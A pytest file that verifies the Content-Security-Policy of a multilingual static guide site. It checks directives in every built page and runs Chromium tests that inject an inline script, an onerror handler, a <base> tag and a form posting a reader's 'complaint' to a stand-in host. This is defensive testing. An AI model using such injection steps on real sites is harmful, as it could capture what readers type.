"""The page's security policy: only this site may provide anything, no inline script runs.

The policy is a <meta http-equiv> tag (overrides/main.html, from scripts/safety/policy.py):
a static host may add headers, but the pages must be safe without them. Checked in the built
HTML (every page, every language: every directive, exactly) and in real Chromium (an injected
inline script, `<base>` or form is blocked; no page of any kind, and no Markdown feature the
site enables, is silently broken by the policy).
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from scripts.build import build_site
from scripts.safety import policy
from tests.conftest import LANGUAGE_ROOTS, PAGE_KINDS, REPO, MiniProject, QuietHandler, serve_folder

CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
SCRIPT = re.compile(r"<script\b([^>]*)>", re.I)
# on...= attributes in tags (onclick, onload...): inline handlers the policy would block anyway.
INLINE_HANDLER = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.I)
DATA_TYPES = ('type="application/json"', 'type="application/ld+json"')

# The rule, written out here rather than imported: every directive a page must have, and
# nothing more. base-uri and form-action do not fall back to default-src, so they must be
# present; object-src 'none' although default-src would cover it (plugins are never needed).
PAGE_POLICY = {
    "default-src": {"'self'"}, "script-src": {"'self'"}, "style-src": {"'self'"},
    "img-src": {"'self'", "data:"}, "font-src": {"'self'"}, "connect-src": {"'self'"},
    "worker-src": {"'self'"}, "manifest-src": {"'self'"}, "object-src": {"'none'"},
    "base-uri": {"'self'"}, "form-action": {"'self'"},
}
EXIT_POLICY = {"default-src": {"'none'"}, "base-uri": {"'none'"}, "form-action": {"'none'"}}


def parse_policy(text: str) -> dict[str, set[str]]:
    """A policy's directives; a directive given twice is an error (browsers use the first)."""
    directives: dict[str, set[str]] = {}
    for part in text.split(";"):
        name, *sources = part.split()
        assert name not in directives, f"{name} twice in {text}"
        directives[name] = set(sources)
    return directives


def _pages(site: Path) -> list[Path]:
    return sorted(p for p in site.rglob("*.html") if p.parent.name != "exit")


def test_every_page_has_the_policy_before_any_script(built_site: Path) -> None:
    problems = []
    for path in sorted(built_site.rglob("*.html")):
        html = path.read_text(encoding="utf-8")
        policy_meta = CSP_META.search(html)
        first_script = html.find("<script")
        if not policy_meta:
            problems.append(f"{path}: no Content-Security-Policy meta")
            continue
        if first_script != -1 and first_script < policy_meta.start():
            problems.append(f"{path}: a script comes before the policy")
        expected = EXIT_POLICY if path.parent.name == "exit" else PAGE_POLICY
        if parse_policy(policy_meta[1]) != expected:
            problems.append(f"{path}: policy {policy_meta[1]!r} is not {expected}")
        if len(CSP_META.findall(html)) != 1:
            problems.append(f"{path}: more than one policy")
        if '<meta name="referrer" content="no-referrer">' not in html:
            problems.append(f"{path}: no referrer policy")
    assert problems == []


def test_the_preview_policy_differs_only_by_allowing_its_live_reload_script() -> None:
    assert parse_policy(policy.page_policy()) == PAGE_POLICY
    assert parse_policy(policy.page_policy(serving=True)) == \
        PAGE_POLICY | {"script-src": {"'self'", "'unsafe-inline'"}}
    assert parse_policy(policy.exit_policy()) == EXIT_POLICY


def test_the_policy_is_written_in_one_place() -> None:
    """scripts/safety/policy.py only: no template or module spells a directive of its own."""
    others = [path for folder in ("scripts", "overrides") for path in (REPO / folder).rglob("*")
              if path.is_file() and path.suffix in {".py", ".html", ".js", ".j2"}
              and path != REPO / "scripts" / "safety" / "policy.py"
              and re.search(r"default-src|form-action|base-uri", path.read_text(encoding="utf-8"))]
    assert others == []


def test_no_inline_script_or_event_handler_in_any_page(built_site: Path) -> None:
    problems = []
    for path in _pages(built_site):
        html = path.read_text(encoding="utf-8")
        for attrs in SCRIPT.findall(html):
            if "src=" not in attrs and not any(t in attrs for t in DATA_TYPES):
                problems.append(f"{path.relative_to(built_site)}: inline <script{attrs}>")
        for match in INLINE_HANDLER.finditer(html):
            problems.append(f"{path.relative_to(built_site)}: inline handler {match[0][:60]}")
    assert problems == []


def _record_violations(page) -> None:
    page.add_init_script("""
        window.__violations = [];
        document.addEventListener("securitypolicyviolation",
            e => window.__violations.push(e.violatedDirective + " " + e.blockedURI));
    """)


@pytest.mark.browser
def test_policy_blocks_an_injected_inline_script(serve_site: str, page) -> None:
    _record_violations(page)
    page.goto(serve_site + "guides/police-detention/")
    page.evaluate("""() => {
        const s = document.createElement("script");
        s.textContent = "window.__injected = true;";
        document.body.appendChild(s);
        const img = document.createElement("img");
        img.setAttribute("onerror", "window.__handler = true");
        img.src = "does-not-exist.png";
        document.body.appendChild(img);
    }""")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__injected") is None
    assert page.evaluate("window.__handler") is None
    violations = page.evaluate("window.__violations")
    assert any(v.startswith("script-src") for v in violations), violations


def _settle(page) -> list[str]:
    """The violations so far, once the events of what the page did have been dispatched."""
    page.evaluate("() => new Promise(r => requestAnimationFrame(() => setTimeout(r, 50)))")
    return page.evaluate("window.__violations")


@pytest.mark.browser
@pytest.mark.parametrize("lang", list(LANGUAGE_ROOTS))
def test_no_page_of_any_kind_causes_a_violation(serve_site: str, page, lang: str) -> None:
    _record_violations(page)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(f"{page.url}: {exc}"))
    problems = {}
    for kind in PAGE_KINDS:
        page.goto(serve_site + LANGUAGE_ROOTS[lang] + kind, wait_until="load")
        if found := _settle(page):
            problems[kind] = found
        if kind != "exit/":  # the neutral page has no script at all
            # Material's moved scripts ran: its helpers exist and its bundle set up the page.
            assert page.evaluate("typeof __md_get") == "function", kind
            assert page.evaluate("document.documentElement.classList.contains('js')"), kind
    assert problems == {}
    assert errors == []


class Recorder(QuietHandler):
    """Another host: it only notes what reaches it."""

    seen: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        self.seen.append(f"GET {self.path}")
        super().do_GET()

    def do_POST(self) -> None:  # noqa: N802
        self.seen.append(f"POST {self.path}")
        self.send_response(204)
        self.end_headers()


@pytest.mark.browser
def test_an_injected_base_or_form_is_blocked_and_sends_nothing(serve_site: str, page,
                                                                tmp_path: Path) -> None:
    _record_violations(page)
    Recorder.seen = []
    # 127.0.0.1 on another port is another origin, as another host would be.
    with serve_folder(tmp_path, Recorder) as elsewhere:
        page.goto(serve_site + "guides/police-detention/")
        # A <base> moves every relative address of the page, links and forms included.
        href = page.evaluate("""elsewhere => {
            const base = document.createElement("base");
            base.href = elsewhere;
            document.head.appendChild(base);
            const a = document.createElement("a");
            a.href = "collect/";
            return a.href;
        }""", elsewhere)
        assert href == serve_site + "guides/police-detention/collect/"
        assert page.evaluate("document.baseURI") == serve_site + "guides/police-detention/"
        # A form that would post what it holds to another host.
        page.evaluate("""elsewhere => {
            const form = document.createElement("form");
            form.method = "post";
            form.action = elsewhere + "collect";
            const input = document.createElement("input");
            input.name = "complaint";
            input.value = "what the reader typed";
            form.appendChild(input);
            document.body.appendChild(form);
            form.submit();
        }""", elsewhere)
        page.wait_for_timeout(500)
        violations = _settle(page)
        assert page.url == serve_site + "guides/police-detention/"
        assert Recorder.seen == []
    assert any(v.startswith("base-uri") for v in violations), violations
    assert any(v.startswith("form-action") for v in violations), violations


# Every Markdown feature mkdocs.yml enables (admonition, attr_list, md_in_html, tables, toc)
# and what Markdown itself has, on one page.
EVERY_FEATURE = """\
## Text {: #text }

Text with *emphasis*, **strong**, `code`, a [link](index.md), an [anchor](#lists) and a line
break.

### A third-level heading

## Lists

- an item
    - a nested item
- [ ] not a task list: no extension for it

1. first
2. second

> A quotation
> on two lines.

---

    an indented code block
    <b>as text</b>

| Left | Centre | Right | None |
| :--- | :----: | ----: | ---- |
| a | b | 12 | d |
| e | f | 3456 | h |

!!! note "A note"
    Text in a note, with a [link](index.md).

!!! warning
    A note without a title.

A paragraph with a class and an id.
{: .kb-notice #marked }

<div markdown>
**Markdown** inside HTML.
</div>

<details>
<summary>More</summary>
<p>Raw HTML text.</p>
</details>
"""


@pytest.fixture(scope="module")
def every_feature_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    project = MiniProject(tmp_path_factory.mktemp("features") / "project")
    project.page("index", "tg", title="Саҳифаи асосӣ")
    project.page("markdown", "tg", title="Markdown", body=EVERY_FEATURE)
    build_site(project.project)
    return project.root / "site"


@pytest.mark.browser
def test_every_markdown_feature_works_under_the_policy(every_feature_site: Path, page) -> None:
    _record_violations(page)
    with serve_folder(every_feature_site) as address:
        page.goto(address + "markdown/", wait_until="load")
        assert _settle(page) == []
        align = page.evaluate("""() => [...document.querySelectorAll(".md-typeset table tr")]
            .map(tr => [...tr.children].map(c => getComputedStyle(c).textAlign))""")
    assert align, "the table is on the page"
    for row in align:
        assert row == ["left", "center", "right", "left"], align
    assert "style=" not in (every_feature_site / "markdown" / "index.html").read_text(encoding="utf-8")
